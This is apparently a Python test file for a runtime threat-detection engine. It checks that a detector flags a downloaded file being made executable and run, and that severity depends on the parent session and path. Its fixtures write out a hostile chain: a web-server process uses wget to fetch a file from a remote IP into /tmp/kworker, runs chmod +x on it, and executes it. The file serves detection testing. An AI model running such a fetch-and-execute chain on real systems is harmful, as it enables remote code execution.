"""Execution:Runtime/DownloadedFileExecuted: download, chmod and run as separate execs, joined by the path.

GIVEN a download, a chmod and the exec of the saved path, in one batch or across batches, in
in order, WHEN run through the engine (and replayed), THEN one finding whose sightings
are the same event each time, with a severity that follows who ran it.
"""

from __future__ import annotations

from vigil import sample as s
from vigil import severity
from vigil.detection import Context
from vigil.engine import Engine
from vigil.findings import occurrences
from vigil.intel.builtin import builtin_intel
from vigil.registry import all_detections
from vigil.state import InMemoryState

TYPE = "Execution:Runtime/DownloadedFileExecuted"
WEB = s.proc("/usr/sbin/php-fpm8.2", pid=950, uid=33, cwd="/var/www/html", stdin=s.pipe())


def _mine(events, state):  # type: ignore[no-untyped-def]
    engine = Engine(all_detections(), intel=builtin_intel())
    run = engine.run(events, state)
    found = occurrences(run.matches, Context(state=state, intel=engine.intel), account_id="1", region="r")
    return [o for o in found if o.finding["type"] == TYPE]


def _chain(parent=WEB, uid=33, path="/tmp/kworker"):  # type: ignore[no-untyped-def]
    return (
        s.exec_(
            s.proc(
                "/usr/bin/wget", "-q", "http://198.51.100.9/k", "-O", path, pid=3201, uid=uid, parent=parent
            )
        ),
        s.exec_(s.proc("/usr/bin/chmod", "+x", path, pid=3202, uid=uid, parent=parent), t=1_000_000),
        s.exec_(s.proc(path, pid=3203, uid=uid, parent=parent), t=2_000_000),
    )


def test_one_finding_across_batches_and_the_same_sighting_when_replayed() -> None:
    state = InMemoryState()
    download, chmod, run = _chain()
    assert _mine([download], state) == []
    state.commit()
    assert _mine([chmod], state) == []
    state.commit()
    first = _mine([run], state)
    assert len(first) == 1
    ctx = first[0].finding["service"]["runtimeDetails"]["context"]
    assert ctx["threatFilePath"] == "/tmp/kworker"
    assert first[0].finding["severity"] == severity.HIGH
    state.commit()
    replay = _mine([download, chmod, run], state)
    assert [o.sightings for o in replay] == [o.sightings for o in first]


def test_without_a_download_an_exec_reads_no_path_and_one_arriving_first_is_not_joined() -> None:
    # GIVEN a State that records what is read, and no download on the instance yet
    class Reading(InMemoryState):
        def __init__(self) -> None:
            super().__init__()
            self.read: list[str] = []

        def load(self, keys) -> None:  # type: ignore[no-untyped-def]
            self.read += list(keys)

    state = Reading()
    download, _, run = _chain()
    # WHEN the exec arrives first: THEN only the instance's download counter is read, nothing fires
    assert _mine([run], state) == []
    assert [k for k in state.read if k.startswith("dlx-")] == [
        f"dlx-n|{s.DEVICE.instance_uid}|{s.DEVICE.boot_uid}"
    ]
    state.commit()
    # and the download arriving after it is not joined to it (an agent's events arrive in order)
    assert _mine([download], state) == []
    state.commit()
    # but the next exec of the saved path reads it and fires
    state.read.clear()
    assert len(_mine([run], state)) == 1
    assert any(k.startswith("dlx-w|") and k.endswith("|/tmp/kworker") for k in state.read)


def test_severity_follows_the_session_and_the_path() -> None:
    login = s.LOGIN_SHELL
    (o,) = _mine(list(_chain(parent=login, uid=1000, path="/home/ec2-user/tool")), InMemoryState())
    assert o.finding["severity"] == severity.LOW
    (o,) = _mine(list(_chain(parent=login, uid=1000, path="/tmp/.t")), InMemoryState())
    assert o.finding["severity"] == severity.HIGH


def test_other_instances_and_other_paths_do_not_join() -> None:
    state = InMemoryState()
    download, _, run = _chain()
    other = s.exec_(
        run.process, device=s.DEVICE.__class__(instance_uid="i-other", boot_uid=s.DEVICE.boot_uid)
    )
    assert _mine([download, other], state) == []
    renamed = s.exec_(s.proc("/tmp/kworker2", pid=3204, uid=33, parent=WEB))
    assert _mine([renamed], state) == []
